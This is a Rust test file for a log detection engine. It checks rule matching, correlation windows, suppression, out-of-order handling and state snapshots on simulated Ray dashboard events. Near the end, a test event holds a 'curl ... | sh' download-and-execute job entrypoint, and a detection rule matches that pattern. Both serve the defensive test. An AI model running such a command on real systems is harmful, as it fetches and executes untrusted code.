//! Engine behaviour: suppression, correlation windows at their edges, chaining,
//! aliases, generate, out-of-order input, snapshot/restore, bounded state.

use sightline_detect::{Alert, AlertStatus, EmitMode, Engine, EngineConfig, EngineState, RuleSet};
use sightline_event::{Event, EventId, Timestamp};
use std::sync::Arc;

const BASE: i64 = 1_795_000_000; // 2026-11-18

fn ev(sec: i64, action: &str, fields: &[(&'static str, &str)]) -> Event {
    let ts = Timestamp::from_second(BASE + sec).unwrap();
    let raw = format!("{sec} {action} {fields:?}");
    let mut e = Event::new(
        EventId::derive("t", sec as u64, raw.as_bytes()),
        ts,
        "ray",
        "ray.dashboard",
        raw,
    );
    e.set_action(action);
    for (k, v) in fields {
        e.set(k, *v);
    }
    e
}

fn rules(text: &str) -> Arc<RuleSet> {
    Arc::new(RuleSet::from_texts([("t.yml", text)]).unwrap_or_else(|e| panic!("{e:?}")))
}

fn run_with(set: &Arc<RuleSet>, config: EngineConfig, events: &[Event]) -> Vec<Alert> {
    let mut engine = Engine::new(Arc::clone(set), config);
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    engine.finish(&mut out);
    out
}

fn run(set: &Arc<RuleSet>, events: &[Event]) -> Vec<Alert> {
    run_with(set, EngineConfig::default(), events)
}

const FAILED: &str = "title: Dashboard login failed\nid: failed-login\nname: failed_login\nlevel: low\ntags: [attack.credential_access]\n\
logsource: {product: ray}\ndetection:\n  sel: {event.action: authentication-failed}\n  condition: sel\n";

#[test]
fn detections_are_suppressed_per_group() {
    let set = rules(FAILED);
    let a = [("source.ip", "10.0.0.5")];
    let b = [("source.ip", "10.0.0.6")];
    let events = [
        ev(0, "authentication-failed", &a),
        ev(10, "authentication-failed", &a),
        ev(20, "authentication-failed", &b),
        ev(3599, "authentication-failed", &a),
        ev(3601, "authentication-failed", &a),
        ev(30, "http-request", &a),
    ];
    let alerts = run(&set, &events);
    let summary: Vec<(String, u64, i64)> = alerts
        .iter()
        .map(|a| {
            (
                a.group["source.ip"].clone(),
                a.count,
                a.first_seen.as_second() - BASE,
            )
        })
        .collect();
    assert_eq!(
        summary,
        vec![
            ("10.0.0.5".into(), 3, 0),
            ("10.0.0.6".into(), 1, 20),
            ("10.0.0.5".into(), 1, 3601)
        ]
    );
    let first = &alerts[0];
    assert_eq!(first.rule_id, "failed-login");
    assert_eq!(first.last_seen.as_second() - BASE, 3599);
    assert_eq!(first.event_ids.len(), 3);
    assert_eq!(first.tags, vec!["attack.credential_access"]);
    assert!(
        first
            .summary
            .starts_with("Dashboard login failed: 3 events from source.ip=10.0.0.5 over 59m59s"),
        "{}",
        first.summary
    );
    assert!(
        first
            .explanation
            .contains("event.action=\"authentication-failed\""),
        "{}",
        first.explanation
    );
    let json = first.to_json();
    for key in [
        "\"rule.id\":",
        "\"rule.name\":",
        "\"rule.level\":\"low\"",
        "\"@timestamp\":",
        "\"alert.last_seen\":",
        "\"alert.count\":3",
        "\"alert.group\":{\"source.ip\":\"10.0.0.5\"}",
        "\"alert.event_ids\":",
        "\"alert.summary\":",
        "\"alert.explanation\":",
        "\"tags\":",
    ] {
        assert!(json.contains(key), "{key} missing in {json}");
    }
}

#[test]
fn extension_group_by_and_suppress() {
    let set = rules(&format!(
        "{FAILED}sightline:\n  group_by: [user.name]\n  suppress: 1m\n"
    ));
    let events = [
        ev(
            0,
            "authentication-failed",
            &[("user.name", "bob"), ("source.ip", "1.1.1.1")],
        ),
        ev(
            30,
            "authentication-failed",
            &[("user.name", "bob"), ("source.ip", "2.2.2.2")],
        ),
        ev(61, "authentication-failed", &[("user.name", "bob")]),
    ];
    let alerts = run(&set, &events);
    assert_eq!(alerts.len(), 2);
    assert_eq!(alerts[0].count, 2);
    assert_eq!(
        alerts[0].group.keys().collect::<Vec<_>>(),
        vec!["user.name"]
    );
}

fn brute(cond: &str, timespan: &str) -> Arc<RuleSet> {
    rules(&format!(
        "{FAILED}---\ntitle: Brute force\nid: brute\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n  group-by: [source.ip]\n  timespan: {timespan}\n  condition: {cond}\n"
    ))
}

#[test]
fn event_count_window_edges_are_inclusive() {
    let set = brute("{gte: 3}", "60s");
    let a = [("source.ip", "10.0.0.5")];
    let at = |secs: &[i64]| -> Vec<Event> {
        secs.iter()
            .map(|s| ev(*s, "authentication-failed", &a))
            .collect()
    };
    let fired = run(&set, &at(&[0, 30, 60]));
    assert_eq!(
        fired.len(),
        1,
        "events exactly timespan apart are in one window"
    );
    assert_eq!(fired[0].rule_id, "brute");
    assert_eq!(fired[0].count, 3);
    assert_eq!(fired[0].rule_type, "event_count");
    assert!(
        fired[0]
            .explanation
            .starts_with("event_count: 3 matching events within 1m (>= 3)"),
        "{}",
        fired[0].explanation
    );
    assert!(
        run(&set, &at(&[0, 30, 61])).is_empty(),
        "one millisecond... one second too late"
    );
    // The referenced rule alerts no more on its own (generate defaults to false).
    assert!(fired.iter().all(|a| a.rule_id != "failed-login"));
}

#[test]
fn event_count_episode_grows_then_closes() {
    let set = brute("{gte: 3}", "60s");
    let a = [("source.ip", "10.0.0.5")];
    let secs = [0, 10, 20, 30, 40, 200, 210, 220];
    let events: Vec<Event> = secs
        .iter()
        .map(|s| ev(*s, "authentication-failed", &a))
        .collect();
    let alerts = run(&set, &events);
    assert_eq!(alerts.len(), 2);
    assert_eq!(
        (
            alerts[0].count,
            alerts[0].first_seen.as_second() - BASE,
            alerts[0].last_seen.as_second() - BASE
        ),
        (5, 0, 40)
    );
    assert_eq!(
        (alerts[1].count, alerts[1].first_seen.as_second() - BASE),
        (3, 200)
    );
    assert_ne!(alerts[0].id, alerts[1].id);
}

#[test]
fn ranges_and_other_operators() {
    let set = brute("{gt: 1, lte: 2}", "60s");
    let a = [("source.ip", "10.0.0.5")];
    let alerts = run(
        &set,
        &[
            ev(0, "authentication-failed", &a),
            ev(1, "authentication-failed", &a),
        ],
    );
    assert_eq!(alerts.len(), 1);
    let none = run(&set, &[ev(0, "authentication-failed", &a)]);
    assert!(none.is_empty());
}

#[test]
fn generate_keeps_the_referenced_rule_alerting() {
    let text = format!(
        "{FAILED}---\ntitle: Brute force\nid: brute\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n  group-by: [source.ip]\n  timespan: 1m\n  condition: {{gte: 2}}\n  generate: true\n"
    );
    let set = rules(&text);
    let a = [("source.ip", "10.0.0.5")];
    let alerts = run(
        &set,
        &[
            ev(0, "authentication-failed", &a),
            ev(1, "authentication-failed", &a),
        ],
    );
    let ids: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
    assert_eq!(ids, vec!["brute", "failed-login"]);
}

#[test]
fn value_count_counts_distinct_values() {
    let set = rules(&format!(
        "{FAILED}---\ntitle: Spraying\nid: spray\ncorrelation:\n  type: value_count\n  rules: failed_login\n  group-by: source.ip\n  timespan: 5m\n  condition:\n    field: user.name\n    gte: 3\n"
    ));
    let e = |s, u| {
        ev(
            s,
            "authentication-failed",
            &[("source.ip", "10.0.0.7"), ("user.name", u)],
        )
    };
    assert!(run(&set, &[e(0, "a"), e(1, "a"), e(2, "b"), e(3, "b")]).is_empty());
    let alerts = run(&set, &[e(0, "a"), e(1, "a"), e(2, "b"), e(3, "c")]);
    assert_eq!(alerts.len(), 1);
    assert!(
        alerts[0]
            .explanation
            .contains("3 distinct values of user.name"),
        "{}",
        alerts[0].explanation
    );
}

#[test]
fn value_sum_and_avg() {
    let base = "title: big search\nname: search\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: search}\n  condition: sel\n";
    let set = rules(&format!(
        "{base}---\ntitle: Exfil volume\nid: exfil\ncorrelation:\n  type: value_sum\n  rules: search\n  group-by: user.name\n  timespan: 10m\n  condition: {{field: milvus.topk, gt: 1000}}\n"
    ));
    let e = |s, k| ev(s, "search", &[("user.name", "u"), ("milvus.topk", k)]);
    assert!(run(&set, &[e(0, "500"), e(1, "500")]).is_empty());
    assert_eq!(run(&set, &[e(0, "500"), e(1, "501")]).len(), 1);
    let avg = rules(&format!(
        "{base}---\ntitle: avg\nid: avg\ncorrelation:\n  type: value_avg\n  rules: search\n  group-by: user.name\n  timespan: 10m\n  condition: {{field: milvus.topk, gte: 100}}\n"
    ));
    assert!(run(&avg, &[e(0, "10")]).is_empty());
    assert_eq!(run(&avg, &[e(0, "10"), e(1, "300")]).len(), 1);
}

const PAIR: &str = "title: A\nname: rule_a\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: a}\n  condition: sel\n\
---\ntitle: B\nname: rule_b\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: b}\n  condition: sel\n";

#[test]
fn temporal_any_order_within_timespan() {
    let set = rules(&format!(
        "{PAIR}---\ntitle: A and B\nid: ab\ncorrelation:\n  type: temporal\n  rules: [rule_a, rule_b]\n  group-by: [user.name]\n  timespan: 5m\n"
    ));
    let u = [("user.name", "x")];
    assert_eq!(run(&set, &[ev(0, "b", &u), ev(300, "a", &u)]).len(), 1);
    assert!(run(&set, &[ev(0, "b", &u), ev(301, "a", &u)]).is_empty());
    assert!(
        run(&set, &[ev(0, "a", &u), ev(1, "b", &[("user.name", "y")])]).is_empty(),
        "different groups"
    );
}

#[test]
fn temporal_ordered_needs_the_order() {
    let set = rules(&format!(
        "{PAIR}---\ntitle: A then B\nid: ab\ncorrelation:\n  type: temporal_ordered\n  rules: [rule_a, rule_b]\n  group-by: [user.name]\n  timespan: 5m\n"
    ));
    let u = [("user.name", "x")];
    assert_eq!(run(&set, &[ev(0, "a", &u), ev(10, "b", &u)]).len(), 1);
    assert!(run(&set, &[ev(0, "b", &u), ev(10, "a", &u)]).is_empty());
}

#[test]
fn extended_temporal_condition() {
    let set = rules(&format!(
        "{PAIR}---\ntitle: A without B\nid: anb\ncorrelation:\n  type: temporal\n  group-by: [user.name]\n  timespan: 5m\n  condition: rule_a and not rule_b\n"
    ));
    let u = [("user.name", "x")];
    assert_eq!(run(&set, &[ev(0, "a", &u)]).len(), 1);
    assert!(run(&set, &[ev(0, "b", &u), ev(1, "a", &u)]).is_empty());
}

#[test]
fn chained_correlations() {
    // The specification's example: many failed logins followed by a success, per user.
    let text = "title: Failed then success\nid: chain\nlevel: high\ncorrelation:\n  type: temporal_ordered\n  rules: [multiple_failed_login, successful_login]\n  group-by: [user.name]\n  timespan: 10m\n\
---\ntitle: Multiple failed\nname: multiple_failed_login\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n  group-by: [user.name]\n  timespan: 10m\n  condition: {gte: 3}\n\
---\ntitle: Failed\nname: failed_login\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: authentication-failed}\n  condition: sel\n\
---\ntitle: Success\nname: successful_login\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: authentication-succeeded}\n  condition: sel\n";
    let set = rules(text);
    let u = [("user.name", "root")];
    let events = [
        ev(0, "authentication-failed", &u),
        ev(5, "authentication-failed", &u),
        ev(9, "authentication-failed", &u),
        ev(60, "authentication-succeeded", &u),
    ];
    let alerts = run(&set, &events);
    assert_eq!(
        alerts
            .iter()
            .map(|a| a.rule_id.as_str())
            .collect::<Vec<_>>(),
        vec!["chain"]
    );
    assert_eq!(alerts[0].group["user.name"], "root");
    // Success before the failures: no chain.
    let mut early = events.to_vec();
    early[3] = ev(-1, "authentication-succeeded", &u);
    assert!(run(&set, &early).is_empty());
}

#[test]
fn aliases_join_different_fields() {
    let text = "title: Internal error\nname: internal_error\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: error}\n  condition: sel\n\
---\ntitle: New connection\nname: new_connection\nlogsource: {product: ray}\ndetection:\n  sel: {event.action: connect}\n  condition: sel\n\
---\ntitle: Error then connection back\nid: alias\ncorrelation:\n  type: temporal\n  rules: [internal_error, new_connection]\n  group-by: [internal_ip]\n  timespan: 10s\n  aliases:\n    internal_ip:\n      internal_error: destination.ip\n      new_connection: source.ip\n";
    let set = rules(text);
    let alerts = run(
        &set,
        &[
            ev(0, "error", &[("destination.ip", "10.1.1.1")]),
            ev(5, "connect", &[("source.ip", "10.1.1.1")]),
        ],
    );
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].group["internal_ip"], "10.1.1.1");
    assert!(
        run(
            &set,
            &[
                ev(0, "error", &[("destination.ip", "10.1.1.1")]),
                ev(5, "connect", &[("source.ip", "10.1.1.2")])
            ]
        )
        .is_empty()
    );
}

fn stream() -> (Arc<RuleSet>, Vec<Event>) {
    let set = rules(&format!(
        "{FAILED}sightline:\n  suppress: 2m\n---\ntitle: Brute force\nid: brute\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n  group-by: [source.ip]\n  timespan: 60s\n  condition: {{gte: 3}}\n  generate: true\n"
    ));
    let mut events = Vec::new();
    for i in 0..60i64 {
        let ip = ["10.0.0.1", "10.0.0.2", "10.0.0.3"][(i % 3) as usize];
        let action = if i % 5 == 0 {
            "http-request"
        } else {
            "authentication-failed"
        };
        events.push(ev(i * 7 + (i % 4) * 20, action, &[("source.ip", ip)]));
    }
    events.sort_by_key(|e| e.timestamp);
    (set, events)
}

#[test]
fn out_of_order_within_lateness_changes_nothing() {
    let (set, ordered) = stream();
    let config = EngineConfig {
        lateness_secs: 120,
        ..Default::default()
    };
    let expected = run_with(&set, config.clone(), &ordered);
    assert!(expected.len() > 3, "{}", expected.len());
    // Swap neighbours whose times are less than the lateness apart.
    let mut shuffled = ordered.clone();
    for i in (0..shuffled.len() - 1).step_by(2) {
        shuffled.swap(i, i + 1);
    }
    shuffled.reverse();
    shuffled.sort_by_key(|e| {
        (
            e.timestamp.as_second() / 100,
            std::cmp::Reverse(e.timestamp),
        )
    });
    let mut engine = Engine::new(Arc::clone(&set), config.clone());
    let mut got = Vec::new();
    for e in &shuffled {
        engine.process(e, &mut got);
    }
    engine.finish(&mut got);
    assert_eq!(engine.stats().late_matches, 0);
    assert_eq!(got, expected);
}

#[test]
fn events_after_lateness_are_counted_late() {
    let set = rules(FAILED);
    let a = [("source.ip", "10.0.0.5")];
    let config = EngineConfig {
        lateness_secs: 10,
        ..Default::default()
    };
    let mut engine = Engine::new(Arc::clone(&set), config);
    let mut out = Vec::new();
    engine.process(&ev(100, "authentication-failed", &a), &mut out);
    engine.process(&ev(50, "authentication-failed", &a), &mut out);
    engine.process(&ev(95, "authentication-failed", &a), &mut out);
    engine.finish(&mut out);
    assert_eq!(
        engine.stats().late_matches,
        1,
        "only the one older than the watermark (90)"
    );
    assert_eq!(
        out.iter().map(|a| a.count).sum::<u64>(),
        3,
        "late matches still count"
    );
}

#[test]
fn advancing_to_the_newest_event_releases_waiting_matches_without_closing_windows() {
    let set = rules(FAILED);
    let a = [("source.ip", "10.0.0.5")];
    let config = EngineConfig {
        lateness_secs: 60,
        emit: EmitMode::Updates,
        ..Default::default()
    };
    let mut engine = Engine::new(Arc::clone(&set), config);
    let mut out = Vec::new();
    engine.process(&ev(0, "authentication-failed", &a), &mut out);
    engine.process(&ev(5, "authentication-failed", &a), &mut out);
    assert!(out.is_empty(), "both wait for the watermark");
    // What the server does on its timer when the stream is quiet.
    engine.advance_to(engine.max_seen().unwrap(), &mut out);
    assert_eq!(
        out.len(),
        1,
        "raised without waiting for more traffic: {out:?}"
    );
    assert_eq!(out[0].status, AlertStatus::Open, "the window stays open");
    // A later event joins the same open alert; an older one is late but counts.
    out.clear();
    engine.process(&ev(30, "authentication-failed", &a), &mut out);
    engine.process(&ev(2, "authentication-failed", &a), &mut out);
    engine.finish(&mut out);
    assert_eq!(out.last().unwrap().count, 4);
    assert_eq!(engine.stats().late_matches, 1);
}

#[test]
fn snapshot_restore_mid_window_gives_the_same_alerts() {
    let (set, events) = stream();
    let config = EngineConfig {
        lateness_secs: 30,
        ..Default::default()
    };
    let expected = run_with(&set, config.clone(), &events);
    for cut in [1, events.len() / 3, events.len() / 2, events.len() - 1] {
        let mut first = Engine::new(Arc::clone(&set), config.clone());
        let mut got = Vec::new();
        for e in &events[..cut] {
            first.process(e, &mut got);
        }
        // Through JSON, as the server would persist it.
        let json = serde_json::to_string(&first.snapshot()).unwrap();
        drop(first);
        let state: EngineState = serde_json::from_str(&json).unwrap();
        let mut second = Engine::restore(Arc::clone(&set), config.clone(), state);
        for e in &events[cut..] {
            second.process(e, &mut got);
        }
        second.finish(&mut got);
        assert_eq!(got, expected, "cut at {cut}");
    }
}

#[test]
fn same_input_same_output() {
    let (set, events) = stream();
    let a: Vec<String> = run(&set, &events).iter().map(Alert::to_json).collect();
    let b: Vec<String> = run(&set, &events).iter().map(Alert::to_json).collect();
    assert_eq!(a, b);
}

#[test]
fn state_is_bounded() {
    let set = rules(FAILED);
    let config = EngineConfig {
        max_groups_per_rule: 2,
        lateness_secs: 0,
        ..Default::default()
    };
    let events: Vec<Event> = (0..5)
        .map(|i| {
            ev(
                i,
                "authentication-failed",
                &[(
                    "source.ip",
                    ["1.1.1.1", "2.2.2.2", "3.3.3.3", "4.4.4.4", "5.5.5.5"][i as usize],
                )],
            )
        })
        .collect();
    let mut engine = Engine::new(Arc::clone(&set), config);
    let mut out = Vec::new();
    for e in &events {
        engine.process(e, &mut out);
    }
    assert_eq!(engine.stats().evicted_groups, 3, "5 groups, room for 2");
    engine.finish(&mut out);
    assert_eq!(out.len(), 5);
    let window = rules(&format!(
        "{FAILED}---\ntitle: Brute\nid: b\ncorrelation:\n  type: event_count\n  rules: failed_login\n  group-by: source.ip\n  timespan: 1h\n  condition: {{gte: 100}}\n"
    ));
    let config = EngineConfig {
        max_entries_per_group: 10,
        lateness_secs: 0,
        ..Default::default()
    };
    let mut engine = Engine::new(window, config);
    for i in 0..25 {
        engine.process(
            &ev(i, "authentication-failed", &[("source.ip", "1.1.1.1")]),
            &mut out,
        );
    }
    assert_eq!(engine.stats().evicted_entries, 15);
}

#[test]
fn updates_mode_emits_open_then_closed_with_one_id() {
    let set = rules(FAILED);
    let a = [("source.ip", "10.0.0.5")];
    let config = EngineConfig {
        emit: EmitMode::Updates,
        lateness_secs: 0,
        ..Default::default()
    };
    let alerts = run_with(
        &set,
        config,
        &[
            ev(0, "authentication-failed", &a),
            ev(1, "authentication-failed", &a),
        ],
    );
    assert_eq!(alerts.len(), 2);
    assert_eq!((alerts[0].status, alerts[0].count), (AlertStatus::Open, 1));
    assert_eq!(
        (alerts[1].status, alerts[1].count),
        (AlertStatus::Closed, 2)
    );
    assert_eq!(alerts[0].id, alerts[1].id);
}

#[test]
fn advance_to_closes_idle_windows() {
    let set = rules(FAILED);
    let mut engine = Engine::new(
        Arc::clone(&set),
        EngineConfig {
            lateness_secs: 0,
            default_suppress_secs: 60,
            ..Default::default()
        },
    );
    let mut out = Vec::new();
    engine.process(
        &ev(0, "authentication-failed", &[("source.ip", "1.1.1.1")]),
        &mut out,
    );
    assert!(out.is_empty());
    engine.advance_to(Timestamp::from_second(BASE + 60).unwrap(), &mut out);
    assert!(
        out.is_empty(),
        "a match exactly at the window end could still join"
    );
    engine.advance_to(Timestamp::from_second(BASE + 61).unwrap(), &mut out);
    assert_eq!(out.len(), 1);
}

mod props {
    use super::*;
    use proptest::prelude::*;

    fn scenario() -> impl Strategy<Value = Vec<(i64, u8, u8, i64)>> {
        // (time, action, source, arrival jitter < lateness)
        proptest::collection::vec((0i64..600, 0u8..3, 0u8..3, 0i64..60), 1..60)
    }

    fn events(spec: &[(i64, u8, u8, i64)]) -> Vec<(i64, Event)> {
        spec.iter()
            .enumerate()
            .map(|(i, (t, a, s, j))| {
                let action = [
                    "authentication-failed",
                    "authentication-succeeded",
                    "http-request",
                ][*a as usize];
                let ip = ["10.0.0.1", "10.0.0.2", "10.0.0.3"][*s as usize];
                let mut e = ev(*t, action, &[("source.ip", ip), ("user.name", ip)]);
                e.id = EventId::derive("p", i as u64, b"x");
                (t + j, e)
            })
            .collect()
    }

    fn set() -> Arc<RuleSet> {
        rules(&format!(
            "{FAILED}sightline:\n  suppress: 90s\n---\ntitle: Brute\nid: brute\ncorrelation:\n  type: event_count\n  rules: [failed_login]\n  group-by: [source.ip]\n  timespan: 60s\n  condition: {{gte: 3}}\n  generate: true\n\
---\ntitle: Success\nname: ok_login\nlogsource: {{product: ray}}\ndetection:\n  sel: {{event.action: authentication-succeeded}}\n  condition: sel\n\
---\ntitle: Brute then success\nid: chain\ncorrelation:\n  type: temporal_ordered\n  rules: [brute, ok_login]\n  group-by: [source.ip]\n  timespan: 120s\n"
        ))
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

        #[test]
        fn arrival_order_within_lateness_does_not_matter(spec in scenario()) {
            let set = set();
            let config = EngineConfig { lateness_secs: 60, ..Default::default() };
            let evs = events(&spec);
            let mut ordered: Vec<Event> = evs.iter().map(|(_, e)| e.clone()).collect();
            ordered.sort_by_key(|e| e.timestamp);
            let mut arrival = evs.clone();
            arrival.sort_by_key(|(a, _)| *a);
            let arrival: Vec<Event> = arrival.into_iter().map(|(_, e)| e).collect();
            prop_assert_eq!(run_with(&set, config.clone(), &arrival), run_with(&set, config, &ordered));
        }

        #[test]
        fn snapshot_anywhere_changes_nothing(spec in scenario(), cut in 0usize..60) {
            let set = set();
            let config = EngineConfig { lateness_secs: 10, ..Default::default() };
            let mut evs: Vec<Event> = events(&spec).into_iter().map(|(_, e)| e).collect();
            evs.sort_by_key(|e| e.timestamp);
            let expected = run_with(&set, config.clone(), &evs);
            let cut = cut.min(evs.len());
            let mut first = Engine::new(Arc::clone(&set), config.clone());
            let mut got = Vec::new();
            for e in &evs[..cut] {
                first.process(e, &mut got);
            }
            let json = serde_json::to_string(&first.snapshot()).unwrap();
            let mut second = Engine::restore(Arc::clone(&set), config, serde_json::from_str(&json).unwrap());
            for e in &evs[cut..] {
                second.process(e, &mut got);
            }
            second.finish(&mut got);
            prop_assert_eq!(got, expected);
        }
    }
}

/// Events built as the Ray decoder describes them, from verbatim lines of the
/// Ray corpus (`shared/corpus/ray/dev`): the REST job whose entrypoint pipes a
/// download into a shell, and a burst of unauthenticated API requests.
mod corpus_lines {
    use super::*;

    const RULES: &str = "title: Ray job entrypoint downloads and runs code\nid: ray-download-exec\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n\
logsource: {product: ray}\ndetection:\n  fetch:\n    process.command_line|contains: [curl , wget ]\n  run:\n    process.command_line|re: '\\|\\s*(ba)?sh\\b'\n  condition: fetch and run\n\
---\ntitle: Ray dashboard request refused\nname: ray_api_refused\nlogsource: {product: ray, service: dashboard}\ndetection:\n  sel:\n    http.response.status_code: [401, 403]\n  condition: sel\n\
---\ntitle: Ray API requests refused repeatedly\nid: ray-api-refused-burst\nlevel: medium\ncorrelation:\n  type: event_count\n  rules: ray_api_refused\n  group-by: [source.ip]\n  timespan: 1m\n  condition: {gte: 4}\n";

    fn line_event(ts: &str, dataset: &'static str, line: &str) -> Event {
        let mut e = Event::new(
            EventId::derive("corpus", 0, line.as_bytes()),
            ts.parse().unwrap(),
            "ray",
            dataset,
            line,
        );
        e.message = line.to_owned();
        e
    }

    #[test]
    fn download_and_execute_entrypoint() {
        let set = rules(RULES);
        let line = "Running entrypoint for job raysubmit_curlpipe_dev: bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'";
        let mut e = line_event("2026-11-22T12:38:04.5Z", "ray.job", line);
        e.set(
            "process.command_line",
            "bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'",
        );
        e.set("ray.job.submission_id", "raysubmit_curlpipe_dev");
        let alerts = run(&set, &[e]);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].rule_id, "ray-download-exec");
        assert!(
            alerts[0].explanation.contains("matched fetch, run"),
            "{}",
            alerts[0].explanation
        );
        // The benign driver from the same corpus does not match.
        let mut benign = line_event(
            "2026-11-22T12:37:21.7Z",
            "ray.job",
            "Running entrypoint for job 01000000: python normal_driver.py",
        );
        benign.set("process.command_line", "python normal_driver.py");
        assert!(run(&set, &[benign]).is_empty());
    }

    #[test]
    fn unauthenticated_burst() {
        let set = rules(RULES);
        let lines = [
            (
                "2026-11-22T12:37:43.229Z",
                "GET",
                "2026-11-22 12:37:43,229\tINFO web_log.py:229 -- 127.0.0.1 [22/Nov/2026:12:37:43 +0000] 'GET /api/jobs/ HTTP/1.1' 401 205 bytes 447 us '-' 'curl/7.88.1'",
            ),
            (
                "2026-11-22T12:37:43.237Z",
                "POST",
                "2026-11-22 12:37:43,237\tINFO web_log.py:229 -- 127.0.0.1 [22/Nov/2026:12:37:43 +0000] 'POST /api/jobs/ HTTP/1.1' 401 205 bytes 307 us '-' 'curl/7.88.1'",
            ),
        ];
        let mut events = Vec::new();
        for i in 0..4 {
            let (ts, method, line) = lines[i % 2];
            let mut e = line_event(ts, "ray.dashboard", line);
            e.id = EventId::derive("corpus", i as u64, line.as_bytes());
            e.set("source.ip", "127.0.0.1")
                .set("http.request.method", method)
                .set("url.path", "/api/jobs/")
                .set("http.response.status_code", 401i64);
            events.push(e);
        }
        let alerts = run(&set, &events);
        assert_eq!(alerts.len(), 1, "{alerts:?}");
        assert_eq!(alerts[0].rule_id, "ray-api-refused-burst");
        assert_eq!(alerts[0].group["source.ip"], "127.0.0.1");
        assert_eq!(alerts[0].count, 4);
        assert!(
            run(&set, &events[..3]).is_empty(),
            "three refusals stay under the threshold"
        );
    }
}

#[test]
fn unbounded_lateness_buffers_matches_until_finish() {
    // What `hunt` over unordered files wants: exact results whatever the order, memory ∝ matches.
    let (set, ordered) = stream();
    let config = EngineConfig {
        lateness_secs: u64::MAX,
        max_pending: usize::MAX,
        ..Default::default()
    };
    let expected = run_with(&set, config.clone(), &ordered);
    let mut reversed = ordered.clone();
    reversed.reverse();
    let mut engine = Engine::new(Arc::clone(&set), config);
    let mut got = Vec::new();
    for e in &reversed {
        engine.process(e, &mut got);
    }
    assert!(got.is_empty(), "nothing is due before the end");
    engine.finish(&mut got);
    assert_eq!(got, expected);
    assert_eq!(engine.stats().late_matches, 0);
}
